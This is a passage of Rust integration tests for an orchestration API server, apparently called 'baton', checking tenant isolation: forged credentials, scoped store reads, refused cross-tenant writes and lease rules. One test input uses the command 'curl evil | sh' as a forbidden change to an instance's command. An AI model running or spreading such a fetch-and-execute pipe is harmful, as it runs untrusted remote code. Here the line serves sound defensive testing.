        // Nothing at the cluster scope: not across namespaces, not the tenants, not namespaces.
        for path in ["/apis/baton.dev/v1alpha1/apps", "/apis/baton.dev/v1alpha1/tenants", "/api/v1/namespaces"] {
            assert_eq!(
                as_user(token, Method::GET, path.into(), None).await,
                StatusCode::FORBIDDEN,
                "identity {i} {path}"
            );
        }
        // Controllers read Maintenances (where things are drained); users do not.
        let code = as_user(token, Method::GET, "/apis/baton.dev/v1alpha1/maintenances".into(), None).await;
        assert_eq!(code.is_success(), i >= 2, "identity {i}: maintenances {code}");
    }
    // A forged controller credential (another tenant's name under the same MAC) is nobody.
    let forged = controller_a.replace("t-a", "t-b");
    let code = as_user(&forged, Method::GET, "/apis/baton.dev/v1alpha1/namespaces/nb/apps".into(), None).await;
    assert_eq!(code, StatusCode::UNAUTHORIZED);
}

/// An instance record of `scope`, on agent `n1`.
fn instance_record(id: &str, namespace: &str, scope: &str) -> baton_api::InstanceRecord {
    serde_json::from_value(json!({
        "id": id, "app": {"namespace": namespace, "name": "web", "uid": "u"}, "scope": scope,
        "agent": "n1", "host": "127.0.0.1", "version": "v1", "createdAt": "2026-01-01T00:00:00Z",
        "goal": "Running", "command": {"shell": "sleep 1000"},
        "resources": {"millicpus": 100, "memMib": 64, "diskMib": 0}, "killGraceSeconds": 5,
    }))
    .expect("an instance record")
}

/// A tenant's controller reaches the store through the API server only as far as its scope:
/// it reads and stops its own instances and nothing else, and cannot touch another scope's
/// leadership, leases, backoffs or secrets.
#[tokio::test]
async fn tenant_controllers_reach_only_their_scope_in_the_store() {
    let api = Api::new().await;
    two_tenants(&api).await;
    let keys = Keyspace::default();
    let records = [("a-1", "na", "tenant/t-a"), ("b-1", "nb", "tenant/t-b"), ("p-1", "default", "platform")];
    for (id, ns, scope) in records {
        let record = instance_record(id, ns, scope);
        api.store.put(&keys.instance("n1", id), serde_json::to_vec(&record).unwrap()).await.unwrap();
        api.store.put(&keys.status("n1", id), br#"{"phase":"Running"}"#.to_vec()).await.unwrap();
        api.store.put(&keys.app_backoff(ns, "web"), b"{}".to_vec()).await.unwrap();
    }
    let token = controller_token(&api, "t-a").await;
    let store = |operation: &str, body: Value| {
        let request = Api::request_as(
            &token,
            Method::POST,
            &format!("/baton/store/v1/{operation}"),
            "application/json",
            Some(&body),
        );
        async { api.send(request).await }
    };
    // Reads: its instance, its status, its backoff; agents' and nobody's secrets.
    let (code, range) = store("range", json!({"prefix": "/baton/"})).await;
    assert_eq!(code, StatusCode::OK, "{range}");
    let seen: Vec<&str> = range["kvs"].as_array().unwrap().iter().map(|kv| kv["key"].as_str().unwrap()).collect();
    assert_eq!(seen, ["/baton/apps/na/web/backoff", "/baton/instances/n1/a-1", "/baton/status/n1/a-1"], "{seen:?}");
    // Pages of one key: those out of reach (b-1, then p-1) are skipped, not returned as
    // empty pages with more to come — a caller paging after the last key would stop there.
    let (code, page) =
        store("page", json!({"prefix": keys.instances(), "after": keys.instance("n1", "a-1"), "limit": 1})).await;
    assert_eq!(code, StatusCode::OK, "{page}");
    assert_eq!((page["kvs"].as_array().map(Vec::len), page["more"].clone()), (Some(0), json!(false)), "{page}");
    let (code, page) = store("page", json!({"prefix": keys.statuses(), "limit": 1})).await;
    assert_eq!(code, StatusCode::OK, "{page}");
    let first: Vec<&str> = page["kvs"].as_array().unwrap().iter().map(|kv| kv["key"].as_str().unwrap()).collect();
    assert_eq!(first, [keys.status("n1", "a-1").as_str()], "{page}");
    let (code, page) =
        store("page", json!({"prefix": keys.statuses(), "after": keys.status("n1", "a-1"), "limit": 1})).await;
    assert_eq!(code, StatusCode::OK, "{page}");
    assert_eq!((page["kvs"].as_array().map(Vec::len), page["more"].clone()), (Some(0), json!(false)), "{page}");
    for key in
        [keys.instance("n1", "b-1"), keys.status("n1", "p-1"), keys.sandbox_token(), keys.tenant_controller_secret()]
    {
        let (code, kv) = store("get", json!({"key": key})).await;
        assert_eq!((code, kv), (StatusCode::OK, Value::Null), "{key}");
    }
    // Writes: stopping its own instance passes; another scope's, or changing what runs, does not.
    let stop = |id: &str, ns: &str, scope: &str, command: &str| {
        let mut record = instance_record(id, ns, scope);
        record.goal = baton_api::Goal::Stopped;
        std::sync::Arc::make_mut(&mut record.run).command = baton_api::records::Command::Shell(command.into());
        let value = base64_of(&serde_json::to_vec(&record).unwrap());
        json!({"compares": [], "success": [{"Put": {"key": keys.instance("n1", id), "value": value, "lease": 0}}], "failure": []})
    };
    let (code, answer) = store("txn", stop("a-1", "na", "tenant/t-a", "sleep 1000")).await;
    assert_eq!((code, answer["succeeded"].clone()), (StatusCode::OK, json!(true)), "{answer}");
    for (what, txn) in [
        ("another tenant's instance", stop("b-1", "nb", "tenant/t-b", "sleep 1000")),
        ("the platform's instance", stop("p-1", "default", "platform", "sleep 1000")),
        ("its own instance's command", stop("a-1", "na", "tenant/t-a", "curl evil | sh")),
        ("an instance it would create", stop("a-2", "na", "tenant/t-a", "sleep 1000")),
        (
            "another namespace's backoff",
            json!({"compares": [], "success": [{"Delete": {"key": keys.app_backoff("nb", "web")}}], "failure": []}),
        ),
        (
            "the platform's leadership",
            json!({"compares": [], "success": [{"Delete": {"key": keys.leader("platform")}}], "failure": []}),
        ),
        ("a prefix", json!({"compares": [], "success": [{"DeletePrefix": {"prefix": "/baton/na"}}], "failure": []})),
        (
            "the secrets",
            json!({"compares": [{"key": keys.sandbox_token(), "op": "Equal", "target": {"ModRevision": 0}}], "success": [], "failure": []}),
        ),
    ] {
        let (code, answer) = store("txn", txn).await;
        assert_eq!(code, StatusCode::FORBIDDEN, "{what}: {answer}");
        assert_eq!(answer["reason"], "forbidden", "{what}: {answer}");
    }
    let b1 = api.store.get(&keys.instance("n1", "b-1")).await.unwrap().unwrap();
    assert!(String::from_utf8_lossy(&b1.value).contains("\"Running\""), "nothing of another scope changed");
    // Leadership: only its own key, only with a lease granted to it.
    let (code, granted) = store("lease/grant", json!({"ttl_ms": 5000})).await;
    assert_eq!(code, StatusCode::OK, "{granted}");
    let lease = granted["lease"].as_i64().unwrap();
    let other_lease = api.store.grant_lease(Duration::from_secs(5)).await.unwrap();
    let lead = |key: String, lease: i64| json!({"compares": [], "success": [{"Put": {"key": key, "value": base64_of(b"me"), "lease": lease}}], "failure": []});
    assert_eq!(store("txn", lead(keys.leader("tenant/t-a"), other_lease)).await.0, StatusCode::FORBIDDEN);
    assert_eq!(store("txn", lead(keys.leader("tenant/t-b"), lease)).await.0, StatusCode::FORBIDDEN);
    assert_eq!(store("txn", lead(keys.leader("tenant/t-a"), lease)).await.0, StatusCode::OK);
    assert_eq!(store("lease/keepalive", json!({"lease": other_lease})).await.0, StatusCode::NOT_FOUND);
    assert_eq!(store("lease/revoke", json!({"lease": other_lease})).await.0, StatusCode::FORBIDDEN);
    assert_eq!(store("lease/keepalive", json!({"lease": lease})).await.0, StatusCode::OK);
    // Users are not controllers.
    let request = Api::request_as(
        "alice-token",
        Method::POST,
        "/baton/store/v1/range",
        "application/json",
        Some(&json!({"prefix": "/"})),
    );
    assert_eq!(api.send(request).await.0, StatusCode::FORBIDDEN);
}

fn base64_of(bytes: &[u8]) -> String {
    use base64::Engine;
    base64::engine::general_purpose::STANDARD.encode(bytes)
}

/// An object stored under older rules (past today's limits) can still get its status and its
/// finalizers written; a change of its spec is checked as any.
#[tokio::test]
async fn writes_that_leave_an_old_invalid_spec_alone_are_not_refused_for_it() {
    let api = Api::new().await;
    let mut old = app("old", 1_000_000_000);
    old["metadata"]["namespace"] = json!("default");
    old["metadata"]["uid"] = json!("0000-old");
    let key = Keyspace::default().registry_object("baton.dev", "apps", Some("default"), "old");
    api.store.put(&key, old.to_string().into_bytes()).await.unwrap();
    let status = json!({"status": {"observedGeneration": 1}});
    let (code, body) =
        api.call_as(Method::PATCH, &format!("{APPS}/old/status"), "application/merge-patch+json", Some(&status)).await;
    assert_eq!(code, StatusCode::OK, "{body}");
    let finalizers = json!({"metadata": {"finalizers": ["baton.dev/stop-instances"]}});
    let (code, body) =
        api.call_as(Method::PATCH, &format!("{APPS}/old"), "application/merge-patch+json", Some(&finalizers)).await;
    assert_eq!(code, StatusCode::OK, "{body}");
    let spec = json!({"spec": {"instances": 2_000_000_000}});
    let (code, body) =
        api.call_as(Method::PATCH, &format!("{APPS}/old"), "application/merge-patch+json", Some(&spec)).await;
    assert_eq!(code, StatusCode::UNPROCESSABLE_ENTITY, "{body}");
    let fixed = json!({"spec": {"instances": 3}});
    let (code, body) =
        api.call_as(Method::PATCH, &format!("{APPS}/old"), "application/merge-patch+json", Some(&fixed)).await;
    assert_eq!(code, StatusCode::OK, "{body}");
}

/// Merge-patches web's status to `running` instances; the App after.
async fn patch_status(api: &Api, running: i32) -> Value {
    let status = json!({"status": {"running": running, "desired": 3}});
    let path = format!("{APPS}/web/status");
    let (code, body) = api.call_as(Method::PATCH, &path, "application/merge-patch+json", Some(&status)).await;
    assert_eq!(code, StatusCode::OK, "{body}");
    body
}

/// An API server on an embedded store, reading through a [`Counting`] store.
async fn counted_api() -> (Api, Arc<Counting>, Arc<dyn Store>) {
    let dir = tempfile::tempdir().unwrap();
    let embedded: Arc<dyn Store> = Arc::new(EmbeddedStore::open(dir.path(), EmbeddedOptions::default()).await.unwrap());
    let counting = Arc::new(Counting { inner: embedded.clone(), calls: Default::default(), keys: Default::default() });
    let api = Api::on(counting.clone(), dir).await;
    (api, counting, embedded)
}

#[tokio::test]
async fn a_create_reads_what_its_checks_need_in_one_request() {
    let (api, counting, _) = counted_api().await;
    api.create("db", 1).await;
    counting.take();
    // Its namespace, the dependency graph's keys, the AppGroups and the Tenants, then the write.
    api.create("web", 3).await;
    assert_eq!(counting.take().0, 2, "an App's create reads once, then writes");
    let (code, body) = api.call(Method::POST, APPS, Some(&grouped("api", "/back", &["/front"]))).await;
    assert_eq!(code, StatusCode::CREATED, "{body}");
    assert_eq!(counting.take().0, 2, "with dependencies too (the namespace's Apps are read with the rest)");
    // What the checks read still decides: a cycle is refused; in a missing namespace, nothing is made.
    let (code, body) = api.call(Method::POST, APPS, Some(&grouped("ui", "/front", &["/back"]))).await;
    assert_eq!(code, StatusCode::UNPROCESSABLE_ENTITY, "{body}");
    assert!(body["message"].as_str().is_some_and(|m| m.contains("spec.dependencies")), "{body}");
    let missing = "/apis/baton.dev/v1alpha1/namespaces/nowhere/apps";
    let (code, body) = api.call(Method::POST, missing, Some(&app("web", 1))).await;
    assert_eq!(code, StatusCode::NOT_FOUND, "{body}");
    assert_eq!(body["details"]["name"], "nowhere", "{body}");
}

#[tokio::test]
async fn a_watched_kinds_patches_read_from_the_shared_watch() {
    let (api, counting, embedded) = counted_api().await;
    api.create("web", 3).await;
    counting.take();
    patch_status(&api, 1).await;
    assert_eq!(counting.take().0, 2, "unwatched, a status patch reads the App, then writes");

    // Once a client watches Apps (as the controllers do), the shared watch holds the latest
    // App: a patch only writes.
    let events = api.watch(&format!("{APPS}?watch=true&resourceVersion=1"), 2).await;
    assert_eq!(events.len(), 2, "{events:?}");
    counting.take();
    let patched = patch_status(&api, 2).await;
    assert_eq!(patched["status"]["running"], 2);
    assert_eq!(counting.take().0, 1, "watched, a status patch only writes");

    // A write the shared watch has not seen yet (straight to the store): the guess loses
    // its compare, and the patch applies to the stored version, losing nothing.
    let key = "/baton/registry/baton.dev/apps/default/web";
    let kv = embedded.get(key).await.unwrap().expect("the stored App");
    let mut stored: Value = serde_json::from_slice(&kv.value).unwrap();
    stored["metadata"]["labels"]["tier"] = json!("edge");
    embedded.put(key, stored.to_string().into_bytes()).await.unwrap();
    let patched = patch_status(&api, 3).await;
    assert_eq!(
        (patched["status"]["running"].as_i64(), patched["metadata"]["labels"]["tier"].as_str()),
        (Some(3), Some("edge"))
    );

    // A patch that would change nothing on the watch's version but does on the store's is
    // still written; one that changes nothing is answered without a write.
    let kv = embedded.get(key).await.unwrap().expect("the stored App");
    let mut stored: Value = serde_json::from_slice(&kv.value).unwrap();
    stored["status"]["running"] = json!(0);
    embedded.put(key, stored.to_string().into_bytes()).await.unwrap();
    let patched = patch_status(&api, 3).await;
    assert_eq!(patched["status"]["running"], 3, "{patched}");
    let after = embedded.get(key).await.unwrap().expect("the stored App");
    let after: Value = serde_json::from_slice(&after.value).unwrap();
    assert_eq!(after["status"]["running"], 3, "written to the store");
}
